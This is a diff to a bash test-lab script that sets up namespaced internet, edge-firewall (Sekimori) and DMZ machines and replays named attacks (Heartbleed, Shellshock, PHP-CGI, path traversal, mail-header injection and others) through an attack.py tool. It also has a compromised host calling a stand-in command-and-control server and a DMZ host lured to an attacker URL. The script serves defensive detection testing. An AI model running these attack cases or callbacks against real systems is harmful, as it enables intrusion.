@@ -41,7 +41,6 @@ internet() { machine internet "$@"; }
 edge() { machine edge "$@"; }
 dmz() { machine dmz "$@"; }
 sekimori() { edge "$BIN/sekimori" "$1" --state "$lab/state" --run "$lab/run" "${@:2}"; }
-attack() { "$1" python3 "$top/tools/attack.py" "${@:2}"; }
 
 cat <<'END'
     internet                        edge (Sekimori)                dmz
@@ -85,7 +84,7 @@ machine_background dmz "$lab/nginx.out" nginx -c "$lab/nginx.conf"
 machine_background dmz "$lab/smtp.out" /usr/bin/python3 -m aiosmtpd -n -l 10.0.2.25:25
 machine_background dmz "$lab/dns.out" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --listen-address=10.0.2.53 \
 	--bind-interfaces --address=/www.lab.example/10.0.2.10 --pid-file="$lab/dns.pid" --user=root
-machine_background internet "$lab/evil.out" python3 "$top/tools/attack.py" serve --address 203.0.113.200 --port 80
+machine_background internet "$lab/evil.out" python3 "$top/tools/attack.py" serve --bind 203.0.113.200 --port 80
 machine_background internet "$lab/c2.out" python3 -m http.server --bind 203.0.113.201 4444 --directory "$lab/www"
 wait_for 10 internet curl -s -o /dev/null --max-time 1 http://10.0.2.10/ || fail "nginx does not answer: $(tail -3 "$lab/nginx.out" "$lab/nginx.log")"
 wait_for 10 internet bash -c 'exec 3<>/dev/tcp/10.0.2.25/25 && read -t 2 -r line <&3 && [ -n "$line" ]' 2>/dev/null || fail "the SMTP server does not answer: $(tail -3 "$lab/smtp.out")"
@@ -111,9 +110,7 @@ sekimori up --config "$lab/sekimori.conf" --enforce || fail "sekimori up failed 
 sekimori status || true
 
 title "Live"
-sekimori alerts --follow >"$lab/alerts.out" 2>&1 &
-follower=$!
-tail -n +1 -F "$lab/alerts.out" 2>/dev/null | sed -u "s/^/       /" &
+sekimori monitor 2>&1 | sed -u "s/^/       /" &
 viewer=$!
 disown -a
 
@@ -136,33 +133,45 @@ if internet curl -s -o /dev/null --max-time 2 --interface 192.0.2.66 http://10.0
 say "… $listed"
 
 number=10
-play() { # name, sender machine, target, port
+play() { # case, target, port: each attacker has its own address
 	number=$((number + 1))
 	local from=203.0.113.$number out
-	say "attacker $from plays $1 against $3:$4"
-	out=$(attack internet send "$1" --target "$3" --port "$4" --source $from 2>&1 | tail -1)
-	[ -z "$out" ] || say "… the attacker saw: $out"
+	say "attacker $from plays $1 against $2:$3"
+	out=$(internet python3 "$top/tools/attack.py" send "$1" --target "$2" --port "$3" --source $from --timeout 1.5 2>&1 | tail -1)
+	say "… and saw: $(echo "$out" | sed -nE 's/.*"outcome": "([a-z]+)".*/\1/p')"
 	echo "$1 $from" >>"$lab/played"
 	sleep 1
 }
 lure() { # name: the proxy host of the DMZ fetches something evil
-	say "10.0.2.80 is lured to http://203.0.113.200/$1"
+	say "10.0.2.80 is lured to http://203.0.113.200/$1/0"
 	dmz curl -s -o /dev/null --max-time 3 --interface 10.0.2.80 "http://203.0.113.200/$1"
 	echo "$1 203.0.113.200" >>"$lab/played"
 	sleep 1
 }
+# The newsletter's ten threats in its order, and Shellshock: how it is played, case, target, port.
 while read -r how name target port; do
 	case $how in
-	send) play "$name" internet "$target" "$port" ;;
-	serve) lure "$name" ;;
+	send) play "$name" "$target" "$port" ;;
+	lure) lure "$name" ;;
 	esac
-done < <(python3 "$top/tools/attack.py" lab --web 10.0.2.10 --mail 10.0.2.25)
+done <<END
+send exe-shell         10.0.2.10 80
+send zom-filler        10.0.2.25 25
+send keyarg            10.0.2.10 443
+send dotdot-climb      10.0.2.10 80
+send mime-parameter    10.0.2.25 25
+send sendmail-header   10.0.2.25 25
+lure ie-spray
+send php-cgi           10.0.2.10 80
+send heartbleed        10.0.2.10 443
+lure excel-merge
+send shellshock-header 10.0.2.10 80
+END
 
 say "the hijacked host 10.0.2.66 calls home to 203.0.113.201:4444"
 if dmz curl -s -o /dev/null --max-time 2 --interface 10.0.2.66 http://203.0.113.201:4444/; then home="GOT THROUGH"; else home="stopped at the edge"; fi
 say "… $home"
-say "the same host asks the DNS of the internet, which its role may"
-sleep 2
+sleep 1
 rm -f "$lab/users"
 wait $users_pid 2>/dev/null
 
@@ -173,7 +182,7 @@ echo "normal users: $good requests answered, $bad lost"
 echo "listed source: $listed.   hijacked host: $home."
 echo
 sekimori alerts || true
-kill $follower $viewer 2>/dev/null
+kill $viewer 2>/dev/null
 cp "$lab/eve.json" "$top/build/lab-eve.json" 2>/dev/null && echo "every event: build/lab-eve.json"
 if [ -n "$stay" ]; then
 	title "Staying. In another terminal: nsenter -t ${machine_pid[edge]} -n -m -p $BIN/sekimori status --run $lab/run   (Ctrl-C ends all)"
